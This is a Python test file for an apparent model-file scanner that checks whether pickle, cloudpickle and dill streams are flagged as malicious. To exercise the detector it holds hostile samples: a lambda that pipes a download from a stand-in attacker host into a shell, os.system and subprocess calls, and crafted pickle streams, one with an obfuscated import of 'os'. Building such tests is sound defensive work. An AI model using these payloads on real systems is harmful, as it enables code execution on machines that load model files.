from __future__ import annotations

import functools
import pickle as cpython
from collections.abc import Callable
from typing import Any

import cloudpickle
import dill
import pytest
from tests.formats.assemble import EMPTY_DICT, EMPTY_TUPLE, NONE, call, data, fetch, number, pickle, text, tup
from tests.formats.pickle.opinions import worst
from tests.scan.examine import examine

from modelward.core.finding import Verdict
from modelward.formats.pickle.judge import Opinion


def honest() -> list[Callable[..., Any]]:
    import os

    scale = 2.0
    return [
        lambda x: x * scale,
        lambda model: model.eval(),
        lambda name: os.path.join("a", name),
        functools.partial(lambda x, y: x + y, 1),
    ]


def harmful() -> list[Callable[..., Any]]:
    import os
    import subprocess

    return [
        lambda: os.system("id"),
        lambda: subprocess.Popen(["id"]),
        lambda: __import__("os"),
        lambda: eval("__import__('os').system('id')"),
        lambda: exec("import os; os.system('curl http://evil.example | sh')"),
    ]


@pytest.mark.parametrize(
    "dumps", [cloudpickle.dumps, functools.partial(dill.dumps, recurse=True)], ids=["cloud", "dill"]
)
def test_function_that_harms_nobody_is_unverified(dumps: Callable[[Any], bytes]) -> None:
    for function in honest():
        assert examine(dumps(function)).verdict is Verdict.UNVERIFIED


@pytest.mark.parametrize(
    "dumps", [cloudpickle.dumps, functools.partial(dill.dumps, recurse=True)], ids=["cloud", "dill"]
)
def test_function_that_runs_a_command_is_an_attack(dumps: Callable[[Any], bytes]) -> None:
    for function in harmful():
        assert examine(dumps(function)).verdict is Verdict.MALICIOUS


def test_class_brought_along_is_unverified() -> None:
    class Scaler:
        def apply(self, value: float) -> float:
            return value * 2

    Scaler.__module__ = "__main__"
    assert examine(cloudpickle.dumps(Scaler())).verdict is Verdict.UNVERIFIED
    assert cpython is not None


MAKE = call("cloudpickle.cloudpickle", "_make_function", NONE, EMPTY_DICT, NONE, NONE, NONE)


CODE = call("cloudpickle.cloudpickle", "_builtin_type", text("CodeType"))


@pytest.mark.parametrize(
    ("value", "opinion"),
    [
        (MAKE + EMPTY_TUPLE + b"R", Opinion.SINK),
        (call("dill._dill", "_create_function", NONE) + EMPTY_TUPLE + b"R", Opinion.SINK),
        (call("types", "FunctionType", NONE, EMPTY_DICT) + EMPTY_TUPLE + b"R", Opinion.SINK),
        (call("types", "CodeType", number(0), tup(text("system"), text("os"))), Opinion.SINK),
        (CODE + tup(number(0), tup(text("system"), text("platform"))) + b"R", Opinion.UNKNOWN),
        (CODE + tup(number(0), tup(text("system"), text("os"))) + b"R", Opinion.SINK),
        (call("cloudpickle.cloudpickle", "subimport", text("subprocess")), Opinion.SINK),
        (call("cloudpickle.cloudpickle", "subimport", text("numpy")), Opinion.UNKNOWN),
        (call("cloudpickle.cloudpickle", "subimport", number(1)), Opinion.SINK),
        (call("dill._dill", "_import_module", text("os")), Opinion.UNKNOWN),
        (
            call("dill._dill", "_get_attr", call("dill._dill", "_import_module", text("os")), text("system")),
            Opinion.SINK,
        ),
        (call("dill._dill", "_eval_repr", text("1")), Opinion.SINK),
        (call("cloudpickle", "loads", data(b"")), Opinion.SINK),
    ],
)
def test_parts_of_functions(value: bytes, opinion: Opinion) -> None:
    assert worst(pickle(value)) is opinion


def test_functions_and_classes_whose_module_dill_refers_to_are_unverified() -> None:
    class Scaler:
        def scale(self, value: float) -> float:
            return value * 2

    for recurse in (False, True):
        for thing in (lambda x: x + 1, Scaler, Scaler()):
            assert examine(dill.dumps(thing, recurse=recurse)).verdict is Verdict.UNVERIFIED


@pytest.mark.parametrize(
    "stream",
    [
        pickle(call("operator", "getitem", fetch("numpy", "__dict__"), text("load")), tup(text("x")), b"R"),
        pickle(call("builtins", "setattr", fetch("acme", "Net"), text("__qualname__"), text("x"))),
        pickle(fetch("os", "__dict__")),
        pickle(fetch("__builtin__", "__main__"), text("x"), NONE, b"s"),
    ],
)
def test_variables_of_a_module_reached_or_changed_otherwise_are_an_attack(stream: bytes) -> None:
    assert examine(stream).verdict is Verdict.MALICIOUS


def test_descriptor_that_dill_refers_to_is_unverified_and_other_text_there_an_attack() -> None:
    assert examine(dill.dumps(int.real)).verdict is not Verdict.MALICIOUS
    attack = text("a'b'c'__import__(bytes([111,115]).decode())")
    stream = pickle(call("dill._dill", "_getattr", fetch("builtins", "int"), text("real"), attack))
    assert worst(stream) is Opinion.SINK
